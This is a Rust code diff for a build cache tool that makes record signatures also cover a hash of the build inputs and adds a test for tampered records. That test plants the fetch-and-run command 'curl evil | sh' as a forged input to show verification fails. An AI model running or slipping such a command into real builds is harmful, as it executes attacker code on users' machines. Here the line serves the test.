@@ -112,9 +112,8 @@ impl Record {
             }
             false => Err(format!(
                 "it is not signed by a trusted key (signed by: {})",
-                self.signatures
-                    .iter()
-                    .map(|s| s.key.as_str())
+                (self.signatures.iter())
+                    .map(|s| crate::registry::printable(&s.key, &[]))
                     .collect::<Vec<_>>()
                     .join(", ")
             )),
@@ -122,12 +121,19 @@ impl Record {
     }
 }
 
-/// What a signature covers: the key, what it built to, and the tree's
-/// blob (whose digest covers every byte of the output).
+/// What a signature covers: the key and the inputs it was made of, what
+/// it built to, and the tree's blob (whose digest covers every byte of the
+/// output).
 fn fingerprint(r: &Record) -> String {
+    let inputs = serde_json::to_vec(&r.inputs).expect("kiln bug: inputs always serialize");
     format!(
-        "kiln-cache-1;{};{};{};{};{}",
-        r.key, r.name, r.output_hash, r.tree.digest, r.tree.size
+        "kiln-cache-1;{};{};{};{};{};{}",
+        r.key,
+        blake3::hash(&inputs),
+        r.name,
+        r.output_hash,
+        r.tree.digest,
+        r.tree.size
     )
 }
 
@@ -219,9 +225,17 @@ mod tests {
             Ok(()),
             "no keys: integrity only"
         );
-        // A signed record whose output hash is changed no longer verifies.
+        // A signed record whose output hash or inputs are changed no longer
+        // verifies.
         let mut forged = r.clone();
         forged.output_hash = OutputHash::from_bytes([3; 32]);
+        assert!(
+            forged
+                .check(&r.key, &r.tree, std::slice::from_ref(&public))
+                .is_err()
+        );
+        let mut forged = r.clone();
+        forged.inputs.insert("run".into(), "curl evil | sh".into());
         assert!(forged.check(&r.key, &r.tree, &[public]).is_err());
         assert!(
             r.check(&Key::from_bytes([9; 32]), &r.tree, &[]).is_err(),
